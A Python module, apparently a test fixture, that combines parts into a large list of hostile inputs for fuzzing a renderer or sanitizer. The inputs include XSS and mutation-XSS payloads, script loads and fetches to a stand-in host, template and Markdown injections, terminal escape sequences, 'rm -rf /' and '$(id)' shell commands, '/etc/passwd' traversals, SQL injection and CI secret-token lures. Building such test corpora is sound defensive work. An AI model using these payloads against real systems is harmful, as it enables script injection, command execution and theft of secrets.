"""Words that try to act, of every class that is known to us: put together from parts, so that each meets each."""

# ruff: noqa: E501 - each input stands on one line

from collections.abc import Iterator
from itertools import product

ACTS = ("alert(1)", "window.acted=1", "fetch('https://other.example/')")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "a href=x",
    "math",
    "style",
    "marquee",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "ONCLICK", "onbegin")
SCHEMES = ("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\x01javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "javascript&colon;{}", "&#106;avascript:{}", "//other.example/{}")  # fmt: skip
BREAKOUTS = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "</q></li></ul>",
    "*/",
    "\\",
    "%22>",
    "\x00>",
)
WHOLE = (
    "<script>{}</script>", "<SCRIPT\n>{}</SCRIPT\n>", "<scr<script>ipt>{}</scr</script>ipt>", "<script src=https://other.example/a.js></script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data=javascript:{}></object>", "<embed src=javascript:{}>",
    "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=https://other.example/>",
    "<style>@import 'https://other.example/';</style>", "<form action=javascript:{}><button>x</button></form>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{} /><a id=x><text>x</text></a></svg>", "<svg><script>{}</script></svg>",
    "<a href='javascript:{}'>x</a>", "<x contenteditable onblur={}>x</x>", "<form id=body><input name=attributes></form>", "<a id=document name=cookie>",
    "<!--<img src='--><img src=x onerror={}>", "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href='javascript:{}'?>", "<plaintext>", "<title>{}",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>", "<math><mtext><table><mglyph><style><math><img src onerror={}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror={}>'>",
    "<xmp><p title='</xmp><svg/onload={}>'>", "<svg><desc><![CDATA[</desc><script>{}</script>]]></svg>", "<math href='javascript:{}'>x</math>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={}></svg>#x'>", "<svg><foreignObject><iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'>",
    "<template shadowrootmode=open><img src=x onerror={}></template>", "<button popovertarget=x>a</button><div popover id=x onbeforetoggle={}>", "<script type=module>{}</script>",
    '<script type=speculationrules>{"prefetch": [{"urls": ["https://other.example/"]}]}</script>', "<a href=# ping=https://other.example/>x</a>", "<link rel=preload as=script href=//other.example/>",
    "<p style='background:url(//other.example/x)'>", "<img src=`x`onerror={}>", "<img/src/onerror={}>", "<svg onload={}<!--", "</div></article></main></body></html><script>{}</script>", "<!--><script>{}</script>-->",
    "<!--<script", "--!><img src=x onerror={}>", "</text></svg><script>{}</script>", "</title></item><item><title>forged", "<xi:include href='file:///etc/passwd'/>", "<a id=config name=__md_scope>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "\xbcscript\xbe{}\xbc/script\xbe", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script>{}&#60;/script>", "<scrıpt>{}</scrıpt>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{})", "![x](https://other.example/a.png)", "[x][y]\n\n[y]: javascript:{}", "<javascript:{}>", "<https://other.example/>",
    "[x](<javascript:{}>)", "[x](data:text/html,{})", "# x\n## y", "    code", "- x\n- y", "1. x", "> x", "```\n{}\n```", "~~~\nx", "a | b\n--- | ---\nc | d",
    "*x* _y_ **z** __w__ `v`", "[^1]: x", "[^1]", "*[HTML]: x", "!!! note\n    x", "??? x", "===", "---\ntitle: x\n---", "title: x\nlayout: y\n\n", "...", "***",
    "{{ config }}", "{% raw %}{% include 'x' %}", "{# x", "{: onclick={} }", "{: #sources .class }", ":smile: ++x++ ~y~ ^z^ ==w==", '--8<-- "/etc/passwd"',
    "\\<script>{}</script>", "klzzwxh:0", "\x02klzzwxh:0\x03", "wzxhzdk:0", "[TOC]", "$x$ $$y$$", "[[x]]",
    "/// html | div[onclick={}]\n///", "/// tab | One\nx\n///", '===! "Tab"\n    x', "Term\n:   definition", "^[note]", "///Footnotes Go Here///", ":material-account:{ onclick={} }", "- [x] done",
    "{++ins++} {--del--} {~~a~>b~~} {==x==}{>>y<<}", '++"<b>"++ ++ctrl+alt+del++', '```mermaid\nclick A "javascript:{}"\n```', "~~~ {.html onclick={}}\n<b>\n~~~", "`#!python {}`", "$$\\href{javascript:{}}{x}$$",
    "\\(x\\) \\[y\\]", "::: generator.cli", "[`x`][]", "@@include[x](/etc/passwd)", "{!/etc/passwd!}", ".. include:: /etc/passwd", "<<toc>>", "[[../../x|y]]", "+++\ntitle='x'\n+++", "{0.__class__} {name!r} %(x)s",
    "{{ ''.__class__.__mro__ }}", "{%- include '/etc/passwd' -%}", "x{target=_blank onmouseover={}}", "www.other.example a@other.example", "zz1337820767766393qq", "\x02inline:0\x03 \x02amp\x03", "<div markdown=1>*x*</div>", "x  \ny", "\\", "&amp;lt;b&amp;gt;",
)  # fmt: skip
TEXT = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://other.example/\x1b\\x\x1b]8;;\x1b\\", "\x9b2J", "a\x08\x08\x08b", "a\rb", "a\x0bb\x0cc", "\x00", "\x7f\x85",
    "::error::stop", "::set-output name=a::b", "\n::warning::x", "##[command]x", "::stop-commands::x", "\u2028::error::x", "a%0A::error::x",
    "\u202egnp.exe", "\u2066x\u2069", "a\u200bb\u200cc\u200dd\ufeff", "\U000e0041\U000e0042", "z\u0335\u0336a\u0337l\u0338g\u0334o", "\ufff9x\ufffay\ufffb", "\u061cx", "\u115f\u3164",
    "\x1b[200~rm -rf /\n\x1b[201~", "\x1b]52;c;eA==\x07", "\x9d0;x\x9c", "\x90q\x9c", "\x1bc\x1b[6n", "safe\rnot", "\u2067x\u2069", "\ufdd0x\U0010ffff", "e" + "\u0301" * 300, "\U000e0100x\ufe0f", "\u3164\u2800\u17b4", "\ue000",
    "\u0130\u0131 \u212a\u212b", "مرحبا שלום", "\N{WAVING BLACK FLAG}\u200d\N{SKULL AND CROSSBONES}\ufe0f", "index", "nul.txt", "%2e%2e%2f", "x" * 300, '=HYPERLINK("https://other.example/")', "x\r\nBcc: a@other.example", "\n.\n",
    "__proto__", "constructor", "\u2028{}//", "&amp;amp;lt;script&amp;amp;gt;", "&Tab;&NewLine;&colon;&lpar;", "&ast;x&ast; &lsqb;x&rsqb;(y)", "&#8238;x &#xe0041; &#128;", "${{ secrets.GITHUB_TOKEN }}", "::add-mask::x", "PATH<<E\nx\nE",
    "\ud800", "a\udfffb", "\uffff", "=1+1|cmd", "@SUM(1)", "%s%n%x", "$(id)`id`", "; rm -rf /", "../../etc/passwd", "CON", '{"a": 1}', "'; DROP TABLE x;--", "!!python/object x",
    "&x; &#0; &#xD800; &#x110000; &nbsp;", "\r\nSubject: x\r\n\r\nx", "=?utf-8?B?PHNjcmlwdD4=?=", "BEGIN:VCARD", "\\u003cscript\\u003e", "</", "<", "<!", "&", "ＡＢＣ＜ｓｃｒｉｐｔ＞", "終わり。*強調*「引用」",
)  # fmt: skip


def strings() -> tuple[str, ...]:
    """Each once, in a fixed order."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    acts = [ACTS[n % len(ACTS)] for n in range(1000)]
    turn = iter(acts)
    yield from (one.replace("{}", next(turn), 1) for one in WHOLE)
    yield from (f"<{tag} {handler}={next(turn)}>" for tag, handler in product(TAGS, HANDLERS))
    yield from (f"{end}<img src=x onerror={next(turn)}>" for end in BREAKOUTS)
    yield from (f"x{end[0]} onmouseover={next(turn)} y={end[0]}" for end in BREAKOUTS)
    yield from (scheme.replace("{}", next(turn), 1) for scheme in SCHEMES)
    yield from (f"<a href='{scheme.replace('{}', next(turn), 1)}'>x</a>" for scheme in SCHEMES)
    yield from (one.replace("{}", next(turn), 1) for one in MARKDOWN)
    yield from TEXT
